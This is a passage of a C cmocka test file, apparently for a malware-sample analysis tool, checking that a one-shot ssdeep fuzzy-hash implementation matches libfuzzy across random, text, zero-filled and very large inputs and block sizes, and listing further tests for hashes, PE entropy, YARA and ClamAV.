    uint8_t *buf = malloc(EVERY_LENGTH);
    assert_non_null(buf);
    static const uint8_t bytes[] = {0x00, 0xff, 'a', ' '};
    for (size_t b = 0; b < sizeof bytes; b++) {
        memset(buf, bytes[b], EVERY_LENGTH);
        check_every_length("one repeated byte", buf);
    }
    /* every byte value, around the SIMD minimum and at a few sizes */
    static const size_t sizes[] = {69, 70, 71, 1000, 3000};
    for (unsigned c = 0; c < 256; c++) {
        memset(buf, (int)c, EVERY_LENGTH);
        for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++)
            check_one_shot("one repeated byte", buf, sizes[i]);
    }
    free(buf);
}

static void one_shot_ssdeep_matches_libfuzzy_on_random_lengths_up_to_2_mib(void **state)
{
    size_t max = 2u << 20;
    uint8_t *buf = malloc(max);
    assert_non_null(buf);
    for (unsigned i = 0; i < 16; i++) {
        size_t n = (size_t)(rng() % (max + 1));
        if (i % 2 == 0)
            fill_random(buf, n);
        else
            fill_text(buf, n);
        check_one_shot(i % 2 == 0 ? "random" : "text", buf, n);
    }
    free(buf);
}

/* Random bytes then zeros (which never trigger): the block sizes with 32 characters or more
 * are those of the random part, so its length sets how far the walk goes down. */
static void one_shot_ssdeep_walks_down_one_two_and_three_block_sizes(void **state)
{
    /* 61000 bytes: the first pass also computes the block size below the guess; 90000: not */
    static const size_t sizes[] = {61000, 90000};
    for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
        size_t n = sizes[i];
        uint8_t *buf = malloc(n);
        assert_non_null(buf);
        unsigned g = 0;
        while ((uint64_t)(3u << g) * 64 < n)
            g++;
        for (unsigned depth = 1; depth <= 4; depth++) {
            /* about 32..64 characters of the random part at 3 << (g - depth): the first
             * length that walks down depth block sizes (there is one: the assertion) */
            bool found = false;
            for (size_t c = 32; c <= 64 && !found; c += 4) {
                size_t random = c * (3u << (g - depth));
                fill_random(buf, random);
                memset(buf + random, 0, n - random);
                char d[KS_SAMPLES_SSDEEP_MAX];
                assert_true(ks_samples_ssdeep(buf, n, d));
                found = walk_down(n, d) == depth;
                check_one_shot("random then zeros", buf, n);
            }
            if (!found)
                fail_msg("%zu bytes: no input walked down %u block sizes", n, depth);
        }
        free(buf);
    }
}

static void one_shot_ssdeep_clamps_the_guess_to_the_largest_block_size_that_exists(void **state)
{
    size_t n = 1u << 20, random = 3000;
    uint8_t *buf = calloc(n, 1);
    assert_non_null(buf);
    fill_random(buf, random);
    unsigned g = 0;
    while ((uint64_t)(3u << g) * 64 < n)
        g++;
    /* the streaming engine tells which block sizes exist */
    struct samples_ssdeep *s = aligned_alloc(64, sizeof *s);
    assert_non_null(s);
    samples_ssdeep_init(s);
    samples_ssdeep_update(s, buf, n);
    assert_true(s->bhend - 1 < g);
    free(s);
    check_one_shot("3000 random bytes then zeros", buf, n);
    free(buf);
}

static void one_shot_ssdeep_of_input_that_never_triggers_has_block_size_3(void **state)
{
    static const size_t sizes[] = {0, 1, 100, 5000, 1u << 20};
    uint8_t *buf = calloc(1u << 20, 1);
    assert_non_null(buf);
    char d[KS_SAMPLES_SSDEEP_MAX];
    for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++) {
        memset(buf, 0, sizes[i]); /* zeros: rolling sum 0, never a trigger */
        assert_true(ks_samples_ssdeep(buf, sizes[i], d));
        assert_string_equal(d, "3::");
        check_one_shot("zeros", buf, sizes[i]);
        if (sizes[i] == 0)
            continue;
        buf[sizes[i] - 1] = 1; /* rolling sum 9 at the end: no trigger, the last hash shows */
        assert_true(ks_samples_ssdeep(buf, sizes[i], d));
        assert_int_equal(strncmp(d, "3:", 2), 0);
        assert_int_not_equal(strcmp(d, "3::"), 0);
        check_one_shot("zeros then 1", buf, sizes[i]);
    }
    free(buf);
}

/* 30 MB: block sizes above 3 << 16, whose triggers need the high half of the rolling sum. */
static void one_shot_ssdeep_matches_libfuzzy_on_large_block_sizes(void **state)
{
    size_t n = 30u << 20;
    uint8_t *buf = malloc(n);
    assert_non_null(buf);
    fill_random(buf, n);
    char d[KS_SAMPLES_SSDEEP_MAX];
    assert_true(ks_samples_ssdeep(buf, n, d));
    assert_true(strtoul(d, NULL, 10) > (3ul << 16));
    check_one_shot("30 MB random", buf, n);
    free(buf);
}

/* Above 64 MiB the one-shot hands the input to the streaming engine. */
static void one_shot_ssdeep_above_64_mib_matches_libfuzzy(void **state)
{
    size_t n = (64u << 20) + 1;
    uint8_t *buf = malloc(n);
    assert_non_null(buf);
    fill_random(buf, n);
    check_one_shot("64 MiB + 1 random", buf, n);
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(known_vectors_for_md5_sha1_sha256),
        cmocka_unit_test(file_and_memory_give_the_same_hashes),
        cmocka_unit_test(pe_sections_give_entropy_and_upx_hint),
        cmocka_unit_test(high_entropy_section_without_upx_is_a_packer_hint),
        cmocka_unit_test(truncated_pe_is_counted_not_fatal),
        cmocka_unit_test(executable_is_found_inside_a_payload),
        cmocka_unit_test(yara_rules_give_tags_and_indicators),
        cmocka_unit_test(bad_yara_rule_is_reported_with_its_line),
        cmocka_unit_test(clamav_custom_database_gives_verdicts),
        cmocka_unit_test(clamav_testfiles_are_matched_by_hash_when_installed),
        cmocka_unit_test(kept_samples_are_content_addressed_and_read_only),
        cmocka_unit_test(record_writes_each_capture_and_each_sample_once),
        cmocka_unit_test(oversize_samples_are_refused),
        cmocka_unit_test(fuzzy_hashes_match_the_libraries_on_random_inputs_of_many_sizes),
        cmocka_unit_test(fuzzy_hashes_do_not_depend_on_how_the_input_is_cut),
        cmocka_unit_test(fuzzy_hashes_match_the_libraries_on_low_entropy_inputs),
        cmocka_unit_test(fuzzy_hashes_match_the_libraries_on_every_test_file),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_every_length_of_random_bytes),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_every_length_of_english_like_text),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_every_length_of_base64_lines),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_every_length_of_a_repeated_line),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_every_length_of_one_repeated_byte),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_random_lengths_up_to_2_mib),
        cmocka_unit_test(one_shot_ssdeep_walks_down_one_two_and_three_block_sizes),
        cmocka_unit_test(one_shot_ssdeep_clamps_the_guess_to_the_largest_block_size_that_exists),
        cmocka_unit_test(one_shot_ssdeep_of_input_that_never_triggers_has_block_size_3),
        cmocka_unit_test(one_shot_ssdeep_matches_libfuzzy_on_large_block_sizes),
        cmocka_unit_test(one_shot_ssdeep_above_64_mib_matches_libfuzzy),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
